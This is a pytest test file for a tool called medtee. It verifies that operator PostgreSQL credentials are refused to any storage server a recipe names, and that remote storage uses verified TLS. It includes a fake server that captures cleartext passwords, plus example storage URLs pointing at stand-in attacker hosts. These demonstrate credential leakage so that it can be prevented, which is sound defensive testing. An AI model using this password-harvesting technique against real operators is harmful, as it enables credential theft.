"""The operator's PostgreSQL credentials (PGPASSWORD, ~/.pgpass, PGPASSFILE, PGSERVICE, ...) go only to the study
storage the operator named in MEDTEE_SWEEP_STORAGE: a recipe's `sweep.storage` naming another server is refused
before any key release, and a production sweep connects only to a declared, verified study server.

The fake server below speaks just enough of the PostgreSQL protocol to ask for a cleartext password (what the
reviewer's server did); the control test shows libpq hands it PGPASSWORD, the others that medtee never connects."""

from __future__ import annotations

import os
import socket
import struct
import subprocess
import sys
import threading

import pytest

from medtee import config, run
from medtee.schema import ConfigError
from medtee.sweep import config as sweep_config
from medtee.containment import storage_egress_problems
from medtee.sweep.config import OPERATOR_STORAGE, storage_credentials_problem
from medtee.sweep.config import storage_problems

SECRET = "operator-db-secret"

#: Environment an operator's machine may carry that would change what these tests see.
OPERATOR_VARS = (*sweep_config.PG_CREDENTIAL_ENV, OPERATOR_STORAGE, "PGHOST", "PGSSLMODE", "MLFLOW_TRACKING_URI",
                 "MLFLOW_TRACKING_TOKEN", "MLFLOW_TRACKING_USERNAME", "MLFLOW_TRACKING_PASSWORD")


class FakePostgres:
    """Accepts connections on 127.0.0.1, refuses SSL/GSS encryption, asks for a cleartext password and keeps it."""

    def __init__(self):
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.sock.settimeout(0.2)
        self.port = self.sock.getsockname()[1]
        self.connections, self.passwords = 0, []
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)
        self._thread.start()

    def _serve(self):
        while not self._stop.is_set():
            try:
                conn, _ = self.sock.accept()
            except (socket.timeout, OSError):
                continue
            self.connections += 1
            with conn:
                conn.settimeout(5)
                try:
                    self._session(conn)
                except (OSError, struct.error):
                    pass

    @staticmethod
    def _packet(conn, typed: bool) -> bytes:
        head = conn.recv(5 if typed else 4, socket.MSG_WAITALL)
        (length,) = struct.unpack("!I", head[-4:])
        return conn.recv(length - 4, socket.MSG_WAITALL)

    def _session(self, conn):
        body = self._packet(conn, typed=False)
        while struct.unpack("!I", body[:4])[0] in (80877103, 80877104):  # SSLRequest, GSSENCRequest
            conn.sendall(b"N")
            body = self._packet(conn, typed=False)
        conn.sendall(b"R" + struct.pack("!II", 8, 3))  # AuthenticationCleartextPassword
        self.passwords.append(self._packet(conn, typed=True).rstrip(b"\0").decode())

    def close(self):
        self._stop.set()
        self._thread.join(timeout=5)
        self.sock.close()


@pytest.fixture
def fake_postgres():
    server = FakePostgres()
    yield server
    server.close()


@pytest.fixture
def clean_env(monkeypatch, tmp_path):
    """No operator credentials from this machine, and an empty home directory (libpq reads ~/.pgpass)."""
    for name in OPERATOR_VARS:
        monkeypatch.delenv(name, raising=False)
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("HOME", str(home))
    monkeypatch.setattr(sweep_config, "_homes", lambda environ: [environ.get("HOME") or ""])
    return home


def _medtee_sweep(cwd, storage: str, env: dict) -> subprocess.CompletedProcess:
    full = {k: v for k, v in os.environ.items() if k not in OPERATOR_VARS}
    full.update(PYTHONUNBUFFERED="1", **env)
    return subprocess.run([sys.executable, "-m", "medtee", "sweep", "sweep=demo_lr_rank", f"sweep.storage={storage}",
                           "trainer.max_steps=2"], cwd=cwd, env=full, capture_output=True, text=True, timeout=300)


def test_control_libpq_sends_pgpassword_to_whatever_server_the_url_names(fake_postgres, clean_env, monkeypatch):
    """Why the rule exists: without it, this is what `sweep.storage=postgresql://medtee@ATTACKER/optuna` does."""
    psycopg = pytest.importorskip("psycopg")
    monkeypatch.setenv("PGPASSWORD", SECRET)
    with pytest.raises(psycopg.Error):
        psycopg.connect(f"postgresql://medtee@127.0.0.1:{fake_postgres.port}/optuna?connect_timeout=5")
    assert fake_postgres.passwords == [SECRET]


def _pgpass_home(tmp_path, home) -> dict:
    (home / ".pgpass").write_text(f"*:*:*:*:{SECRET}\n")
    (home / ".pgpass").chmod(0o600)
    return {"HOME": str(home)}


def _pgpassfile(tmp_path, home) -> dict:
    path = tmp_path / "pgpass"
    path.write_text(f"*:*:*:*:{SECRET}\n")
    path.chmod(0o600)
    return {"HOME": str(home), "PGPASSFILE": str(path)}


def _pgservice(tmp_path, home) -> dict:
    path = tmp_path / "pg_service.conf"
    path.write_text(f"[ops]\npassword={SECRET}\n")
    return {"HOME": str(home), "PGSERVICE": "ops", "PGSERVICEFILE": str(path)}


@pytest.mark.slow
@pytest.mark.parametrize("source, named", [
    (lambda tmp_path, home: {"HOME": str(home), "PGPASSWORD": SECRET}, "PGPASSWORD"),
    (_pgpass_home, "~/.pgpass"),
    (_pgpassfile, "PGPASSFILE"),
    (_pgservice, "PGSERVICE"),
], ids=["PGPASSWORD", "pgpass", "PGPASSFILE", "PGSERVICE"])
def test_a_recipe_storage_never_receives_the_operators_credentials(source, named, fake_postgres, clean_env,
                                                                   tmp_path):
    env = source(tmp_path, clean_env)
    res = _medtee_sweep(tmp_path, f"postgresql://medtee@127.0.0.1:{fake_postgres.port}/optuna", env)
    assert res.returncode == 2, res.stderr[-3000:]
    [line] = [ln for ln in res.stderr.splitlines() if ln.startswith("medtee: configuration error")]
    assert named in line and OPERATOR_STORAGE in line and "Traceback" not in res.stderr
    assert SECRET not in res.stdout + res.stderr and "data key released" not in res.stderr
    assert fake_postgres.connections == 0 and fake_postgres.passwords == []
    assert not (tmp_path / "outputs").exists()


@pytest.mark.slow
def test_the_operator_naming_another_storage_does_not_let_the_recipe_pick_one(fake_postgres, clean_env, tmp_path):
    env = {"HOME": str(clean_env), "PGPASSWORD": SECRET, OPERATOR_STORAGE: "postgresql://medtee@db.internal/optuna"}
    res = _medtee_sweep(tmp_path, f"postgresql://medtee@127.0.0.1:{fake_postgres.port}/optuna", env)
    assert res.returncode == 2 and OPERATOR_STORAGE in res.stderr and fake_postgres.connections == 0


def test_credentials_go_only_to_the_storage_the_operator_named(clean_env, monkeypatch):
    url = "postgresql+psycopg://medtee@db.internal/optuna?sslmode=verify-full"
    assert storage_credentials_problem(url) is None  # no credentials around: nothing to leak
    assert storage_credentials_problem("sqlite:///optuna.db") is None and storage_credentials_problem(None) is None
    monkeypatch.setenv("PGPASSWORD", SECRET)
    assert storage_credentials_problem("sqlite:///optuna.db") is None
    problem = storage_credentials_problem(url)
    assert "PGPASSWORD" in problem and OPERATOR_STORAGE in problem and SECRET not in problem
    monkeypatch.setenv(OPERATOR_STORAGE, url)
    assert storage_credentials_problem(url) is None
    assert storage_credentials_problem(url.replace("postgresql+psycopg://", "postgresql://")) is None  # same driver
    assert storage_credentials_problem(url.replace("db.internal", "db.internal.attacker.example")) is not None
    monkeypatch.delenv("PGPASSWORD")
    (clean_env / ".postgresql").mkdir()
    (clean_env / ".postgresql" / "postgresql.key").write_text("key")
    assert "~/.postgresql/postgresql.key" in storage_credentials_problem(url.replace("db.internal", "evil"))


def test_apply_environment_refuses_a_recipe_storage_while_credentials_are_set(clean_env, monkeypatch):
    url = "postgresql://medtee@db.internal/optuna"
    cfg = config.compose(["sweep=demo_lr_rank", f"sweep.storage={url}"])
    config.apply_environment(cfg)  # no credentials: allowed
    (clean_env / ".pgpass").write_text(f"*:*:*:*:{SECRET}\n")
    with pytest.raises(ConfigError, match=r"~/\.pgpass is set: libpq would send those credentials"):
        config.apply_environment(cfg)
    monkeypatch.setenv(OPERATOR_STORAGE, url)
    config.apply_environment(cfg)


@pytest.mark.parametrize("url", [
    "postgresql://u@db.example/optuna?sslmode=disable",
    "postgresql://u@db.example/optuna?sslmode=prefer",
    "postgresql://u@/optuna?host=db.example&sslmode=allow",
    "postgresql://u@localhost,db.example/optuna?sslmode=disable",
])
def test_a_storage_may_not_turn_encryption_off_for_a_remote_server(url):
    assert any("sslmode=" in p and "db.example" in p for p in storage_problems(url))


def test_local_storages_may_skip_tls_and_options_appear_once():
    for url in ("postgresql://u@127.0.0.1:5432/optuna?sslmode=disable", "postgresql://u@[::1]/optuna?sslmode=disable",
                "postgresql://u@/optuna?host=/run/postgresql&sslmode=disable",
                "postgresql://u@db.example/optuna?sslmode=verify-full"):
        assert storage_problems(url) == [], url
    assert any("given twice" in p for p in storage_problems("postgresql://u@db/o?sslmode=require&sslmode=disable"))


def _production(*overrides):
    return config.compose(["recipe=medgemma27b_h200_sev_snp", "data.path=/sealed", "model.revision=abc",
                           "sweep=demo_lr_rank", *overrides])


def _storage_problems(cfg) -> list[str]:
    return [p for p in run.production_egress(cfg) if p.startswith("sweep.storage")]


def test_production_egress_covers_the_sweep_storage(clean_env, monkeypatch):
    assert _storage_problems(_production()) == []  # the default: a sqlite file beside the MLflow store
    assert _storage_problems(_production("sweep.storage=sqlite:///optuna.db")) == []
    url = "postgresql://medtee@db.example/optuna"
    [undeclared] = _storage_problems(_production(f"sweep.storage={url}"))
    assert "db.example" in undeclared and "did not declare" in undeclared and OPERATOR_STORAGE in undeclared
    monkeypatch.setenv(OPERATOR_STORAGE, url)
    [unverified] = _storage_problems(_production(f"sweep.storage={url}"))
    assert "sslmode=verify-full" in unverified
    monkeypatch.setenv("PGSSLMODE", "verify-full")
    assert _storage_problems(_production(f"sweep.storage={url}")) == []
    monkeypatch.delenv("PGSSLMODE")
    verified = f"{url}?sslmode=verify-full&sslrootcert=/etc/ca.pem"
    monkeypatch.setenv(OPERATOR_STORAGE, verified)
    assert _storage_problems(_production(f'sweep.storage="{verified}"')) == []
    assert storage_egress_problems("postgresql://medtee@/optuna?host=/run/postgresql",
                                   {OPERATOR_STORAGE: "postgresql://medtee@/optuna?host=/run/postgresql"}) == []
    assert run.production_egress(config.compose(["sweep=demo_lr_rank", f"sweep.storage={url}"])) == []  # not prod
